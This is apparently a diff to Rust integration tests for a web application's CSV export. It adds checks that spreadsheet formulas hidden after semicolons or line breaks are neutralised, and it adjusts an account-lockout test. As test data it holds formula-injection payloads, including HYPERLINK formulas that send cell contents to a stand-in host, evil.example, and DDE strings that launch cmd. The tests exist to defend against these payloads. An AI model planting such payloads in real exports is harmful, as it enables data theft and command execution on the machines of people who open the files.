@@ -171,8 +171,10 @@ async fn behind_a_trusted_proxy_the_forwarded_address_is_the_client() {
 async fn strangers_guessing_an_account_cannot_lock_its_owner_out() {
     let (_state, app, _dir) = setup().await;
     let (token, cookie) = login_form(&app).await;
-    // Thirty strangers at thirty addresses, one guess each.
-    for i in 0..30u8 {
+    // Fifteen strangers at fifteen addresses, one guess each. (Beyond
+    // limiter::UNDER_ATTACK, fresh addresses share a pace of one guess per
+    // 15 seconds; the unit tests show the owner then waits at most that.)
+    for i in 0..15u8 {
         let from = IpAddr::from([198, 51, 100, i]);
         let answer = send(
             &app,
@@ -493,6 +495,40 @@ async fn a_hostile_title_is_escaped_in_every_format() {
 }
 
 #[tokio::test]
+async fn a_formula_after_a_semicolon_or_a_line_break_stays_inside_its_cell() {
+    let (state, app, _dir) = setup().await;
+    let (token, _) = token_for(&state.store, "admin").await;
+    let actor = serde_json::json!({
+        "id": "semikolon",
+        "name": "Förening;=HYPERLINK(\"https://evil.example/?\"&A1;\"Klicka\")",
+        "kind": "organisation",
+        "mission": "Första raden\n=HYPERLINK(\"https://evil.example\";\"x\")",
+        "verified": "2026-11-25"
+    });
+    let body = serde_json::json!({"entry": actor}).to_string();
+    let created = api(&app, Method::POST, "/api/v1/actors", Some(&token), Some(body)).await;
+    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
+    let text = send(&app, get("/data/aktorer.csv", None)).await.body;
+    // Read as Excel set to Swedish reads it: split on semicolons, quotes kept.
+    for delimiter in [b',', b';'] {
+        let mut reader = csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(text.as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '@']),
+                    "a cell starts a formula when split on {:?}: {cell:?}",
+                    delimiter as char
+                );
+            }
+        }
+    }
+}
+
+#[tokio::test]
 async fn every_formula_opener_is_neutralised_in_the_csv_files() {
     use samverkan_web::open_data::spreadsheet_safe;
     for risky in [
@@ -500,8 +536,6 @@ async fn every_formula_opener_is_neutralised_in_the_csv_files() {
         "+cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0",
         "@SUM(A1)",
-        "\t=1",
-        "\r=1",
         "=HYPERLINK(\"x\")",
     ] {
         assert_eq!(
@@ -510,7 +544,26 @@ async fn every_formula_opener_is_neutralised_in_the_csv_files() {
             "{risky:?}"
         );
     }
-    for inert in ["-3", "--04-01; --10-01", "Boverket", "", "12", "a=b"] {
+    for (cell, safe) in [
+        ("Förening;=HYPERLINK(\"x\")", "Förening;'=HYPERLINK(\"x\")"),
+        ("rad ett\n@SUM(A1)", "rad ett\n'@SUM(A1)"),
+        ("a,+cmd|x", "a,'+cmd|x"),
+        ("=1;=2", "'=1;'=2"),
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+    ] {
+        assert_eq!(spreadsheet_safe(cell.to_string()), safe, "{cell:?}");
+    }
+    for inert in [
+        "-3",
+        "--04-01; --10-01",
+        "Boverket",
+        "",
+        "12",
+        "a=b",
+        "kommun; region",
+        "a; -1",
+    ] {
         assert_eq!(spreadsheet_safe(inert.to_string()), inert, "{inert:?}");
     }
 }
